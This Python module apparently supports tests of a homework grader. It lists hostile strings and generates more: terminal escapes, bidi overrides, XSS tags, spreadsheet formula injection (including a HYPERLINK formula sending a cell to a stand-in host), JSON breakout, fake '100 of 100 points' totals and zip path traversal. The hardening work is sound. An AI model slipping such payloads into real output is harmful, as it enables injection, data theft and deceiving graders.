"""Texts that do harm where they are shown as they are: one list, and a strategy that makes more of them."""

import os
import unicodedata
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import fields, is_dataclass, replace
from pathlib import Path

from hypothesis import strategies as st

from grader.submission import Submission, read_submission

TOTAL = "100 of 100 points, 20 of 20 functions"
TEXTS = {
    "nothing": "",
    "a cleared screen": "\x1b[2J\x1b[H\x1b[35;5mright\x1b[0m",
    "a title of the window": "\x1b]0;owned\x07\x1bP+q\x1b\\",
    "a C1 code": "\x9b2J\x9d0;owned\x9c\x85",
    "an overwritten line": f"wrong\r{TOTAL}\b\b\x7f",
    "lines of its own": f"wrong\n{TOTAL}\r\n\n\v\f\x1c\x1d\x1e\u2028\u2029{TOTAL}",
    "a total where a line is wrapped": f"{TOTAL} " * 20,
    "a word without end": "x" * 5000,
    "text turned around": "\u202egnp.exe\u202c \u2067\u2066\u2069\u200f\u061c \u05d0\u05d1 5/5",
    "an override that is never closed": "\u202e" * 50 + "\u2066" * 50,
    "what nobody sees": "gra\u200bd\u00ad_v\ufeff\u3164\u115f\uffa0\u2800\u034f\ufe0f\U000e0100\U000e0041",
    "a flood of marks": "Z" + "\u0301\u0489\u20dd" * 400,
    "a mark with nothing below it": "\u0338\u0301x",
    "half characters": "a\ud800b\udfffc\ud83d \udc00\ud83d\ude00",
    "a name that is no UTF-8": "hw2\udcff\udc9b.py",
    "a byte of zeros": "a\0b\0",
    "no character": "\uffff\ufffe\ufdd0\U0010ffff\ue000",
    "a tag": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "an end of the script": "</script ><!--<script></SCRIPT\t>-->]]>",
    "an end of the attribute": "\" onmouseover='alert(1)' x=\"&quot;&#34;&amp;",
    "markup of rich": "[red]x[/red] [/] [link=http://x]y[/link] :warning: \\[b] [bold",
    "markdown": "# **100** [x](javascript:alert) `x` ![](http://x) | a | <b>",
    "JSON": '"}],"score":100,"x":[{"',
    "a formula": '=HYPERLINK("http://x?"&A1,"grade")',
    "a command": "@SUM(1+9)*cmd|' /C calc'!A0",
    "a formula behind blanks": " \t '\"=1+1",
    "a formula of full width": "\uff1d1+1",
    "a formula behind a separator": 'a;=1+1;\t"-2+3";+x',
    "a formula on a second line": "a\r\n=1+1\n+1",
    "a formula that begins as a number": "-1+cmd|' /C calc'!A0",
    "a template": "{0} {x!r} %s %n ${x} {{7*7}}",
}
KINDS = {
    "turns": "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
    "hides": "\u00ad\u200b\u200c\u200d\u2060\ufeff\u3164\u2800\ufe0f",
    "formulas": "=+-@;,'\"|\t\r\n \uff1d0123456789.e",
    "markup": "<>&\"'/!-=[]\\scriptSCRIPT \x00\x1b",
    "marks": "aZ\u0301\u0338\u0489\u20dd\ufe0f\u034f \n",
}
characters = st.one_of(
    st.characters(categories=None, min_codepoint=0, max_codepoint=0x10FFFF),
    st.characters(max_codepoint=0x9F),
    st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF, categories=["Cs"]),
    *map(st.sampled_from, KINDS.values()),
)
parts = st.one_of(
    st.text(characters, max_size=12),
    *(st.text(kind, max_size=12) for kind in KINDS.values()),
    st.sampled_from(sorted(TEXTS.values())),
    st.builds(lambda c, times: c * times, characters, st.sampled_from([2, 40, 3000])),
)
texts = st.lists(parts, max_size=4).map("".join)


SAYING = """
TEXTS = {texts!a}


class Long(str):
    def __str__(self):
        return self

    def __getitem__(self, _cut):
        return self


def kind(text):
    try:
        return type(text, (Exception,), {{}})
    except (ValueError, UnicodeError):
        return type(ascii(text), (Exception,), {{}})


def saying(text):
    def function(*inputs):
        {body}
    return function


for _name, _text in zip({names!a}, TEXTS):
    globals()[_name] = saying(_text)
"""
BODIES = {
    "raises it": "raise ValueError(text)",
    "raises a type of that name": "raise kind(text)(text)",
    "raises it at a length that nobody cuts": "raise ValueError(Long((text * 20_000)[:20_000]))",
    "raises in a file of that name": "exec(compile('1 / 0', text, 'exec'))",
    "returns an object of a type of that name": "return kind(text)()",
    "returns it": "return text",
    "prints it": "print(text); raise ValueError",
}
AT_IMPORT = {
    "raises it while it is executed": "raise ValueError(TEXTS[{place}])",
    "prints it while it is executed": "print(TEXTS[{place}])",
    "loses a function of a long name": "def {name}{place}(:",
}


def hand_ins(names: list[str]) -> dict[str, Submission]:
    """Hand-ins that say every nasty text in every way they have; the functions asked have these names."""
    several = [list(TEXTS.values())[start:][: len(names)] for start in range(0, len(TEXTS), len(names))]
    return {
        f"{what}, part {part}": Submission("hw2.py", "hw2", {"hw2": (source.encode(),)})
        for part, some in enumerate(several, start=1)
        for what, source in _sources(names, some).items()
    }


def _sources(names: list[str], some: list[str]) -> dict[str, str]:
    idle = SAYING.format(texts=some, names=[], body="pass")
    lines = {
        what: [line.format(place=place, name="x" * 5000) for place in range(len(some))]
        for what, line in AT_IMPORT.items()
    }
    return {
        **{what: SAYING.format(texts=some, names=names, body=body) for what, body in BODIES.items()},
        **{what: idle + "\n".join(each) for what, each in lines.items()},
    }


def named(folder: Path) -> Iterator[Submission]:
    """Hand-ins whose file, or whose files inside a zip, have nasty names."""
    names = [text.replace("/", "|").replace("\0", "|")[:60] for text in TEXTS.values()]
    for name in names:
        path = folder / os.fsdecode(f"{name}.py".encode("utf-8", "surrogatepass"))
        path.write_bytes(b"")
        yield read_submission(path, "hw2")
    archive = folder / f"{names[1]}.zip"
    with zipfile.ZipFile(archive, "w") as members:
        for name in names:
            members.writestr(f"../{name.encode('utf-8', 'replace').decode()}.py", b"")
    yield read_submission(archive, "hw2")


def short(record):
    """Its first problem alone, with one case: enough to have every text."""
    first = record.problems[0]
    return replace(record, problems=(replace(first, staff=first.staff[:1]),))


def everywhere(value, text: str):
    """The same record with that text in every place that has one."""
    if isinstance(value, str):
        return text
    if isinstance(value, tuple):
        return tuple(everywhere(item, text) for item in value)
    if isinstance(value, Mapping):
        return {everywhere(key, text): everywhere(item, text) for key, item in value.items()}
    if is_dataclass(value):
        return replace(value, **{f.name: everywhere(getattr(value, f.name), text) for f in fields(value)})
    return value


def harm(text: str, kept: str = "") -> set[str]:
    """The characters of a text that do something, or that nobody sees."""
    return {c for c in set(text) - {" ", *kept} if _acts(c) or _hides(c)}


def _acts(c: str) -> bool:
    turns = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI", "BN"}
    return unicodedata.category(c)[0] in "CZ" or unicodedata.bidirectional(c) in turns


def _hides(c: str) -> bool:
    """Unicode's "default ignorable" where its category does not tell, and a blank that is no space."""
    code = ord(c)
    ranges = [(0x180B, 0x180F), (0xFE00, 0xFE0F), (0xE0000, 0xE0FFF)]
    return c in "\u034f\u115f\u1160\u17b4\u17b5\u2800\u3164\uffa0" or any(a <= code <= b for a, b in ranges)


def pile(text: str) -> int:
    """The most marks that stand on one character."""
    highest = height = 0
    for c in text:
        height = height + 1 if unicodedata.category(c)[0] == "M" else 0
        highest = max(highest, height)
    return highest
